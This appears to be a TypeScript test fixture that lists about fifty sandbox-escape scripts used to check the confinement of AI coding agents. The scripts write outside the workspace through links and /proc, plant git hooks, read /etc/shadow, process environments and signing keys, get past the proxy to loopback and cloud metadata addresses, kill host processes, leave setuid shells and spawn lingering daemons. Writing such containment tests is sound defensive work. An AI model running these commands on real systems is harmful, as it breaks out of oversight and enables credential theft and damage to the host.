/** An attack by a process that does all it can. `open`: without walls it works, which shows that the probes see it. */
export interface Attack {
  name: string;
  script: string;
  open?: true;
}

const MARK = 'echo attacked';
/** GET through the proxy, in the words of the wire, to whatever authority is asked for. */
const through = (request: string) =>
  `exec 9<>/dev/tcp/127.0.0.1/3128 && auth=$(printf %s "$HTTP_PROXY" | sed 's#http://##; s#@.*##' | perl -pe 's/%([0-9A-F]{2})/chr hex $1/ge' | base64 -w0)
printf '${request}Proxy-Authorization: Basic %s\\r\\n\\r\\n' $auth >&9; timeout 3 cat <&9`;

export const ATTACKS: readonly Attack[] = [
  { name: '1 writes outside by an absolute path', script: `${MARK} > $OUTSIDE/canary; touch $OUTSIDE/new`, open: true },
  { name: '2 writes through a link to a file', script: `ln -s $OUTSIDE/canary link; ${MARK} > link`, open: true },
  { name: '3 writes through a link to a folder', script: `ln -s $OUTSIDE link; ${MARK} > link/canary`, open: true },
  { name: '4 writes through /proc/self/root', script: `${MARK} > /proc/self/root$OUTSIDE/canary`, open: true },
  { name: '5 writes through /proc/1/root', script: `for p in 1 2 3; do ${MARK} > /proc/$p/root$OUTSIDE/canary; done` },
  { name: '6 writes through a new hard link', script: `ln $OUTSIDE/canary link && ${MARK} > link`, open: true },
  {
    name: '8 writes a git hook',
    script: 'printf "#!/bin/sh\\n" > .git/hooks/pre-commit; mkdir -p .git/hooks; cp /bin/true .git/hooks/post-checkout',
    open: true,
  },
  {
    name: '9 sets core.hooksPath',
    script: 'git config core.hooksPath /tmp/evil; echo "[core]hooksPath=x" >> .git/config; mv .git/config .git/old',
    open: true,
  },
  {
    name: '10 renames .git and makes another',
    script: 'mv .git .git-old; mv .git/hooks .git/h2; rm -rf .git; git init -q .; git config user.name evil',
    open: true,
  },
  { name: '13 reads what is hidden', script: 'cat $HIDDEN/secret; cp $HIDDEN/secret loot; ls $HIDDEN', open: true },
  { name: '14 reads through a link', script: 'ln -s $HIDDEN/secret link; cat link', open: true },
  {
    name: '15 reads through /proc/self/root',
    script: 'cat /proc/self/root$HIDDEN/secret /proc/*/root$HIDDEN/secret /proc/*/cwd/../../hidden/secret',
    open: true,
  },
  {
    name: "15b reads another agent's workspace",
    script: 'cat $NEIGHBOUR/secret; touch $NEIGHBOUR/x; cat ../../neighbour/secret',
    open: true,
  },
  { name: '17 looks for secrets in its environment', script: 'env; cat /proc/self/environ; set' },
  {
    name: '18 reads the environment of other processes',
    script: 'cat /proc/*/environ /proc/$VICTIM/environ | tr "\\0" "\\n"; ls -l /proc/*/fd',
    open: true,
  },
  { name: '19 connects to the loopback of the host', script: 'exec 9<>/dev/tcp/127.0.0.1/$FORBIDDEN && cat <&9', open: true },
  {
    name: '20 asks the proxy for a port that is not listed',
    script: through('GET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\n').replace('$auth >&9', '"$FORBIDDEN" $auth >&9'),
  },
  {
    name: '20b asks for it with CONNECT',
    script: through('CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n').replace('$auth >&9', '"$FORBIDDEN" $auth >&9'),
  },
  {
    name: '21 names an allowed host in the header only',
    script: through('GET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: 127.0.0.2:%s\\r\\n').replace(
      '$auth >&9',
      '"$FORBIDDEN" "$ALLOWED" $auth >&9',
    ),
  },
  {
    name: '22 spells the loopback in other ways',
    script: [
      'localhost',
      '0.0.0.0',
      '2130706433',
      '127.1',
      '[::ffff:127.0.0.1]',
      '[::1]',
      '0x7f000001',
      '127.0.0.1.',
      'LOCALHOST',
    ]
      .map(
        (host) =>
          `(${through(`CONNECT ${host}:%s HTTP/1.1\\r\\n`).replace('$auth >&9', '"$FORBIDDEN" $auth >&9')}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&9)`,
      )
      .join('\n'),
  },
  {
    name: '22b uses the port of the allowed host at another address',
    script: through('CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n').replace('$auth >&9', '"$ALLOWED" $auth >&9'),
  },
  { name: '23 asks for the metadata of the cloud', script: through('CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n') },
  {
    name: '24 speaks SOCKS',
    script: `node -e 'const s=require("net").connect(1080,"127.0.0.1",()=>{s.write(Buffer.from([5,1,0]));s.once("data",()=>{const p=+process.env.FORBIDDEN;s.write(Buffer.from([5,1,0,1,127,0,0,1,p>>8,p&255]))})});s.on("error",()=>{});setTimeout(()=>process.exit(),1500)'`,
  },
  {
    name: '25 connects to an address outside',
    script:
      'timeout 3 bash -c "exec 9<>/dev/tcp/1.1.1.1/80 && echo connected >&9"; timeout 3 bash -c "exec 9<>/dev/tcp/127.0.0.2/$FORBIDDEN"',
  },
  {
    name: '26 sends over UDP',
    script: `perl -MIO::Socket::INET -e 'for my $a ("127.0.0.1:$ENV{UDP}", "8.8.8.8:53") { my $s = IO::Socket::INET->new(PeerAddr => $a, Proto => "udp"); $s and $s->send("x") }'`,
    open: true,
  },
  {
    name: '27 connects to a unix socket',
    script: `perl -MIO::Socket::UNIX -e 'my $s = IO::Socket::UNIX->new(Peer => $ENV{SOCKET}) or die $!; print <$s>'`,
    open: true,
  },
  {
    name: '28 connects to an abstract socket',
    script: `perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_un("\\0$ENV{ABSTRACT}")) or die $!; print <$s>'`,
    open: true,
  },
  { name: '29 connects by socat', script: 'socat - UNIX-CONNECT:$SOCKET; socat - ABSTRACT-CONNECT:$ABSTRACT' },
  {
    name: '29b puts its own socket in the place of the way out',
    script:
      'for s in $(find / -name "claude-*.sock" 2>/dev/null); do rm -f $s; mv $(dirname $s) $(dirname $s)-old; ln -sf $SOCKET $s; done; exec 9<>/dev/tcp/127.0.0.1/3128 && echo x >&9 && timeout 1 cat <&9',
  },
  { name: '30 kills a process of the host', script: 'kill -9 $VICTIM $LAUNCHER; kill -9 -1; kill -9 -- -$VICTIM' },
  {
    name: '31 traces other processes',
    script: `perl -e 'for my $p (1, $ENV{VICTIM}) { my $r = syscall(101, 16, $p, 0, 0); print "$p $r\\n"; }'; head -c1 /proc/1/mem /proc/2/mem; true`,
  },
  {
    name: '32 mounts anew',
    script: `mount -o remount,rw /; mount -o remount,bind,rw $OUTSIDE; mount --bind /proc/self/root $PWD; umount -l $OUTSIDE; umount -l $HIDDEN; cat $HIDDEN/secret; ${MARK} > $OUTSIDE/canary`,
  },
  {
    name: '33 unshares',
    script: `unshare -Urm bash -c 'mount -o remount,bind,rw $OUTSIDE; umount -l $OUTSIDE; ${MARK} > $OUTSIDE/canary; umount $(dirname $HIDDEN); cat $HIDDEN/secret'`,
  },
  {
    name: '34 builds a sandbox in the sandbox',
    script: `bwrap --bind / / --dev /dev bash -c '${MARK} > $OUTSIDE/canary; cat $HIDDEN/secret'; bwrap --unshare-user --bind / / true`,
  },
  {
    name: '35 walks out of a chroot',
    script: `perl -e 'mkdir "c"; chroot "c"; chdir ".." for 1..64; chroot "."; open my $f, "<", "$ENV{HIDDEN}/secret"; print <$f>'; nsenter -t 1 -a true`,
  },
  {
    name: '36 makes a device',
    script:
      'dev=$(stat -c "%d" /etc); mknod disk b $((dev >> 8)) $((dev & 255)) && cat disk | head -c 100; mknod $TMPDIR/kmsg c 1 11 && cat $TMPDIR/kmsg',
  },
  {
    name: '37 leaves a setuid program',
    script: 'cp /bin/bash sh; chmod 4755 sh; cp /bin/bash $TMPDIR/sh; chmod 6755 $TMPDIR/sh',
  },
  {
    name: '38 changes the core pattern',
    script:
      'echo "|/tmp/evil" > /proc/sys/kernel/core_pattern; sysctl -w kernel.core_pattern=x; echo c > /proc/sysrq-trigger; echo 0 > /proc/sys/kernel/randomize_va_space',
  },
  {
    name: '39 types into the terminal',
    script: `perl -e 'ioctl(STDIN, 0x5412, my $c = "x") or print "no\\n"; open my $t, "+<", "/dev/tty" and ioctl($t, 0x5412, $c)'`,
  },
  {
    name: '40 leaves a daemon',
    script: 'setsid -f sleep $LONG; (setsid nohup sleep $LONG >/dev/null 2>&1 &); sleep $LONG & disown -a',
  },
  {
    name: '46 sets up io_uring',
    script: `perl -e 'my $p = "\\0" x 120; my $r = syscall(425, 1, $p); print "io_uring $r\\n"; exit($r >= 0 ? 0 : 1)'`,
  },
  {
    name: '47 writes where everybody may',
    script:
      'for d in /tmp /var/tmp /dev/shm /run /root /etc /usr /opt ~/../../../..; do touch $d/escape-mark; done; mkdir -p ~/.npm ~/.cache; touch ~/.npm/x',
    open: true,
  },
  { name: '51 reads passwords', script: 'cat /etc/shadow /etc/gshadow' },
  {
    name: '52 uses what was left open',
    script: 'for fd in $(ls /proc/self/fd); do [ $fd -gt 3 ] && echo x >&$fd; done; ls -l /proc/self/fd /proc/1/fd /proc/2/fd',
  },
  {
    name: '53 leaves what a shell would run',
    script: `for f in .bashrc .profile .zshrc .envrc .gitconfig .gitmodules .mcp.json .vimrc .gdbinit; do ${MARK} > $f; rm -rf $f; ln -s /etc/passwd $f; done; mkdir -p .vscode .agentnexus/profiles; ${MARK} > .agentnexus/profiles/author.yaml; ${MARK} > .agentnexus.yaml`,
  },
  {
    name: '54 looks for the keys of the launcher',
    script:
      'ls -laR /tmp 2>/dev/null | head -50; cat /tmp/anx-*/*; find / -xdev -name "signing.key" -o -xdev -name "log.db" 2>/dev/null | xargs -r cat',
  },
  {
    name: '55 raises its limits',
    script:
      'ulimit -u unlimited && echo raised; ulimit -c unlimited && echo raised; prlimit --pid $$ --nproc=unlimited && echo raised',
  },
  {
    name: '56 reads and writes shared memory',
    script: `perl -e 'my $id = shmget($ENV{SHARED}, 64, 0666); my $b; for my $i (defined $id ? $id : (), 0..200) { shmread($i, $b, 0, 64) and print "$b\\n" and shmwrite($i, "attacked", 0, 64) }'; ipcs -a; ipcrm -M $SHARED`,
    open: true,
  },
  {
    name: '57 reads keys of the session',
    script: `perl -e 'my ($t, $d, $b) = ("user", "escape", "\\0" x 256); for my $ring (-1, -2, -3, -4, -5) { my $k = syscall(${process.arch === 'arm64' ? 219 : 250}, 10, $ring, $t, $d, 0); $k > 0 and syscall(${process.arch === 'arm64' ? 219 : 250}, 11, $k, $b, 256) and print "$b\\n" }'; cat /proc/keys`,
  },
  {
    name: '58 renames the host',
    script: 'hostname attacked; echo attacked > /proc/sys/kernel/hostname; perl -e \'my $n = "attacked"; syscall(170, $n, 8)\'',
  },
  {
    name: '59 asks the system bus and the container engine',
    script:
      'for s in /run/dbus/system_bus_socket /var/run/docker.sock /run/user/0/bus; do [ -e $s ] && cat $s; done; ls /run /var/run; socat - UNIX-CONNECT:/run/dbus/system_bus_socket',
  },
  {
    name: '60 changes limits and priorities of others',
    script:
      'renice -n 19 -p $VICTIM; prlimit --pid $VICTIM --nofile=1; chrt -f -p 99 $VICTIM; taskset -p 1 $VICTIM; echo 1000 > /proc/$VICTIM/oom_score_adj',
  },
];
